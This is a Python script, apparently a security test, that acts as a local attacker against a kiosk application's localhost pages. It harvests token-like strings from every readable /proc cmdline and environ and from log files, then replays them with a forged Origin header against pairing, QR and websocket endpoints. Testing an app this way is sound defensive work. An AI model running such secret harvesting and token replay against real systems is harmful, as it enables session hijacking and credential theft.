"""Another local user's attack on the kiosk pages (standard library only: it runs as an
unprivileged user with the system's python3).

It gathers every string that could be a key or a token from what such a user can read:
every process's argv (``/proc/*/cmdline``), every environment it may read
(``/proc/*/environ``), and the files named on its command line (the station's stdout
and stderr with ``-v``, ``station status``'s output: a journal, a shared terminal log).
Then it tries each one, with a forged ``Origin`` and the right ``Host``, on every
kiosk page port it is given: the pairing screen's live channel (as a page key and as a
launch token), its QR code, and each session page and its live channel. It prints one
JSON object: what it read, how many attempts, and every success.

    python3 attacker.py --ports 41387,41999 FILE...
"""

from __future__ import annotations

import argparse
import json
import os
import re
import socket
from pathlib import Path

# The station's keys and tokens are 32 URL-safe characters (its source is public); any
# k=, t= or launch= value of any length is tried too.
TOKEN = re.compile(rb"(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{32}(?![A-Za-z0-9_-])")
NAMED = re.compile(rb"(?:[?&#](?:k|t|launch)=)([A-Za-z0-9_-]+)")


def gather(files: list[str]) -> tuple[set[str], dict[str, int]]:
    found: set[str] = set()
    read = {"cmdline": 0, "environ": 0, "files": 0}
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        for name in ("cmdline", "environ"):
            try:
                data = (entry / name).read_bytes()
            except OSError:
                continue  # another user's environment: not readable, as it should be
            read[name] += 1
            found |= _tokens(data)
    for name in files:
        found |= _tokens(Path(name).read_bytes())
        read["files"] += 1
    return found, read


def _tokens(data: bytes) -> set[str]:
    out = {m.group(1).decode() for m in NAMED.finditer(data)}
    out |= {m.group(0).decode() for m in TOKEN.finditer(data)}
    return out


def request(port: int, target: str, *, upgrade: bool) -> int:
    """The status code of one request with a forged Origin (0: no answer)."""
    lines = [
        f"GET {target} HTTP/1.1",
        f"Host: 127.0.0.1:{port}",
        f"Origin: http://127.0.0.1:{port}",
    ]
    if upgrade:
        lines += [
            "Upgrade: websocket",
            "Connection: Upgrade",
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
            "Sec-WebSocket-Version: 13",
        ]
    else:
        lines.append("Connection: close")
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=3) as sock:
            sock.sendall(("\r\n".join(lines) + "\r\n\r\n").encode())
            head = sock.recv(64)
    except OSError:
        return 0
    match = re.match(rb"HTTP/1\.1 (\d{3})", head)
    return int(match.group(1)) if match else 0


def attack(ports: list[int], candidates: set[str]) -> tuple[int, list[dict[str, object]]]:
    attempts, successes = 0, []
    for port in ports:
        # What this port answers with no token at all: a page anyone may load is no win,
        # and a QR code is only guarded where a made-up key is refused.
        open_root = request(port, "/", upgrade=False) == 200
        qr_refused = request(port, "/qr.svg?k=&o=x", upgrade=False)
        if open_root and qr_refused != 403:
            successes.append({"port": port, "target": "/qr.svg?k=&o=x", "status": qr_refused})
        for token in [*sorted(candidates), ""]:
            probes = [
                (f"/live?k={token}", True, (101,)),
                (f"/live?t={token}", True, (101,)),
                (f"/live?launch={token}", True, (101,)),
            ]
            if qr_refused == 403:
                # 404: the key was taken and only the (made-up) offer id was not.
                probes.append((f"/qr.svg?k={token}&o=x", False, (200, 404)))
            if not open_root:
                probes.append((f"/?t={token}", False, (200,)))
            for target, upgrade, wins in probes:
                attempts += 1
                status = request(port, target, upgrade=upgrade)
                if status in wins:
                    successes.append({"port": port, "target": target, "status": status})
    return attempts, successes


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--ports", required=True)
    parser.add_argument("files", nargs="*")
    args = parser.parse_args()
    candidates, read = gather(args.files)
    ports = [int(p) for p in args.ports.split(",") if p]
    attempts, successes = attack(ports, candidates)
    print(
        json.dumps(
            {
                "uid": os.getuid(),
                "read": read,
                "candidates": len(candidates),
                "attempts": attempts,
                "successes": successes,
            }
        )
    )


if __name__ == "__main__":
    main()
